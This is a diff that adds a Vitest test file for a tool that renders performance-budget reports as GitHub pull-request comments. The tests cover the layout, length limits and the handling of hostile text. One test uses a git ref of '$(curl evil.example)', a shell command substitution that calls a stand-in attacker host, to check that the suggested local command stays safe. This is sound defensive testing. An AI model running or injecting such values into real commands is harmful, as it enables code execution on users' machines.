@@ -1,0 +1,181 @@
+import * as fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { renderComment } from "../../src/report/comment.ts";
+import type { Report } from "../../src/types.ts";
+import { attacks, hostileReport } from "../fixtures/reports/hostile.ts";
+import { reports } from "../fixtures/reports/index.ts";
+import { pullRequests } from "../fixtures/reports/pull-requests.ts";
+import { expectInert, toHtml } from "./gfm.ts";
+
+const named = Object.entries(pullRequests);
+const links = ["https://github.com/acme/shop/"];
+
+const of = (name: string) => {
+  const found = pullRequests[name];
+  if (!found) throw new Error(`no fixture ${name}`);
+  return renderComment(found.report, found.options);
+};
+const plain = (source: string) => source.replaceAll("\u00a0", " ");
+
+it.each(named)("%s reads as agreed", (_, { report, options }) => {
+  expect(renderComment(report, options)).toMatchSnapshot();
+});
+
+it.each(named)("%s renders to nothing but our own elements and links", (_, { report, options }) => {
+  expectInert(renderComment(report, options), links);
+});
+
+it("has the verdict on its first line and the failures before all else", () => {
+  const lines = plain(of("many kinds")).split("\n");
+  expect(lines[0]).toBe(
+    "### ❌ storefront · Failed: 5 of 13 limits exceeded: LCP on cart, CLS on cart, Initial JS",
+  );
+  const rows = lines.filter((line) => line.startsWith("| ") && line.includes("**"));
+  expect(rows[0]).toBe(
+    "| ❌ **LCP** `cart`<br>exceeded: ≤ 2.5 s, ≤ +137.5 ms (5%) | 2.75 s → **3.02 s**<br>🟡 needs improvement | +274 ms (+10.0 %)<br>[+231, +310] ms<br>regressed |",
+  );
+  const signs = rows.slice(0, 7).map((row) => row.slice(2, 3));
+  expect(signs.join("")).toBe("❌❌❌❔⚠✅✅");
+});
+
+it("shows every limit of the report once in its tables, and says of each how it ended", () => {
+  for (const name of ["many kinds", "one failure", "twenty failures", "all green"]) {
+    const { verdicts } = pullRequests[name]?.report ?? { verdicts: [] };
+    const words = of(name).match(/(?:exceeded|kept|undecided|warning|no data):\u00a0?.*?(?:<br>| \|)/g) ?? [];
+    const bounds = words.join("").match(/≤/g)?.length;
+    expect(bounds, name).toBe(verdicts.length);
+  }
+});
+
+it("is two lines where nothing changed", () => {
+  expect(plain(of("nothing changed"))).toBe(
+    "### ✅ Passed: all 13 limits kept\nNothing changed against base [`main (98ab00d)`](https://github.com/acme/shop/commit/98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071): every value that was compared is the same. [report](https://github.com/acme/shop/actions/runs/4711/artifacts/815) · [run](https://github.com/acme/shop/actions/runs/4711)\n",
+  );
+  const { report } = pullRequests["nothing changed"] as { report: Report };
+  const [first] = report.verdicts;
+  if (!first?.delta) throw new Error("the fixture is compared");
+  const but = (more: Partial<Report>) => renderComment({ ...report, ...more }).split("\n").length;
+  expect(but({})).toBe(3);
+  const undecided = { ...first, status: "inconclusive" as const };
+  const improved = { ...first, delta: { ...first.delta, verdict: "improved" as const, value: -300 } };
+  const loosened = pullRequests["loosened by a fork"]?.report.loosened ?? [];
+  const failedVisits = reports["missing"]?.failedVisits ?? [];
+  for (const more of [{ verdicts: [undecided] }, { verdicts: [improved] }, { loosened }, { failedVisits }])
+    expect(but({ ...more }), JSON.stringify(more).slice(0, 60)).toBeGreaterThan(8);
+});
+
+it("says above all figures what the change loosens, and that a fork made them itself", () => {
+  const lines = of("loosened by a fork").split("\n");
+  expect(lines[0]).toMatch(/^### ❌ Failed: 1 of 12 limits exceeded/);
+  const table = lines.findIndex((line) => line.startsWith("| "));
+  const above = lines.slice(0, table).join("\n");
+  expect(above).toContain("These figures come from the fork's own run.");
+  expect(above).toContain("- ⚠️ softer: LCP: max raised from 2 s to 2.5 s");
+  expect(above).toContain("new exception for total, until `2027-01-31`: video gallery");
+  expect(above).toContain("page `/checkout (/checkout)` is no longer visited");
+});
+
+it("names the stage that broke, its message, and that nothing was judged", () => {
+  const lines = of("build broken").split("\n");
+  expect(lines[0]).toBe("### ❌ Not measured: the build failed");
+  expect(of("build broken")).toContain("`npm run build ended with exit code 1: src/App.tsx(14,7)");
+  expect(of("build broken")).toContain("So nothing was judged, and the gate does not pass.");
+});
+
+it("agrees with the outcome in its first line", () => {
+  for (const report of [...Object.values(reports), ...named.map(([, one]) => one.report)]) {
+    const [first = ""] = renderComment(report).split("\n");
+    const fails = report.outcome === "fail" || report.outcome === "error";
+    expect(first.startsWith("### ❌"), first).toBe(fails);
+    if (report.outcome === "pass") expect(first).toMatch(/^### ✅ Passed/);
+  }
+});
+
+it("keeps a word beside every sign", () => {
+  for (const [name] of named)
+    for (const [, after] of of(name).matchAll(/[❌✅⚠❔🟡🔴]\ufe0f?(.{0,5})/gu))
+      expect(after).toMatch(/^[\s\u00a0](?:\*\*)?`?[A-Za-z]/);
+});
+
+it("says the same without any HTML, as an e-mail", () => {
+  for (const [name] of named) {
+    const text = of(name).replaceAll(/<\/?(?:details|summary|sub)>|<br>/g, "\n");
+    expect(text).not.toMatch(/<[a-z]/i);
+  }
+});
+
+it("names base by its hash in the command to repeat it, never by a name that a shell could read", () => {
+  const { report } = pullRequests["one failure"] as { report: Report };
+  const base = { ref: "$(curl evil.example)", sha: "98ab00d41c5e7f2a6b3d8e9f0a1b2c3d4e5f6071", dirty: false };
+  const repeat = (revision: typeof base) =>
+    /^Repeat it locally: `([^`]*)`/m.exec(
+      renderComment({ ...report, revisions: { ...report.revisions, base: revision } }),
+    )?.[1];
+  expect(repeat(base)).toBe("npx budget-check --base 98ab00d41c5e");
+  expect(repeat({ ...base, sha: "$(x)" })).toBe("npx budget-check");
+});
+
+describe("length", () => {
+  const huge = (count: number): Report => {
+    const report = reports["regressed"] as Report;
+    const [first] = report.verdicts;
+    if (!first) throw new Error("the fixture has verdicts");
+    const many = (status: "fail" | "pass") =>
+      Array.from({ length: count }, (_, at) => ({
+        ...first,
+        status,
+        page: `page ${at}`,
+        id: `${status} ${at}`,
+      }));
+    return {
+      ...report,
+      verdicts: [...many("pass").map((one) => ({ ...one, metric: "FCP" })), ...many("fail")],
+    };
+  };
+
+  it.each([100, 2_000])("%d failures stay under GitHub's bound, in whole rows, and are counted", (count) => {
+    const source = renderComment(huge(count));
+    expect(source.length).toBeLessThanOrEqual(65_236);
+    expectInert(source);
+    const shown = source.match(/^\| ❌\u00a0\*\*LCP/gm)?.length ?? 0;
+    const left = Number(/^(\d+) more did not fit/m.exec(source)?.[1] ?? 0);
+    expect(shown + left).toBe(count);
+    expect(shown).toBeGreaterThan(count > 100 ? 200 : 99);
+    expect(source).toContain("Repeat it locally");
+    if (count > 100)
+      expect(source).toMatch(/Left out, since it did not fit: .*✅ Kept: 2000 more limits \(2000\)/);
+  });
+
+  it("holds for any report", () => {
+    const words = fc.string({ unit: "binary", maxLength: 3_000 });
+    fc.assert(
+      fc.property(words, fc.integer({ min: 1, max: 400 }), (text, times) => {
+        const one = hostileReport(text.repeat(3));
+        const verdicts = Array.from({ length: times }, (_, at) =>
+          one.verdicts.map((verdict) => ({ ...verdict, page: `${verdict.page}${at}` })),
+        ).flat();
+        const findings = Array.from({ length: times }, () => one.findings).flat();
+        const source = renderComment({ ...one, verdicts, findings }, { title: text, fork: true });
+        expect(source.length).toBeLessThanOrEqual(65_236);
+        expect(toHtml(source)).toMatch(/<sub>.*<\/sub>/s);
+      }),
+      { numRuns: 6 },
+    );
+  }, 60_000);
+});
+
+describe("text from outside", () => {
+  it.each(attacks)("%j stays inert in every field", (attack) => {
+    const options = {
+      title: attack,
+      key: attack,
+      repositoryUrl: attack,
+      runUrl: attack,
+      htmlUrl: attack,
+      command: attack,
+    };
+    const source = renderComment(hostileReport(attack), { ...options, fork: true });
+    expect(source.length).toBeLessThanOrEqual(65_236);
+    expectInert(source);
+  });
+});
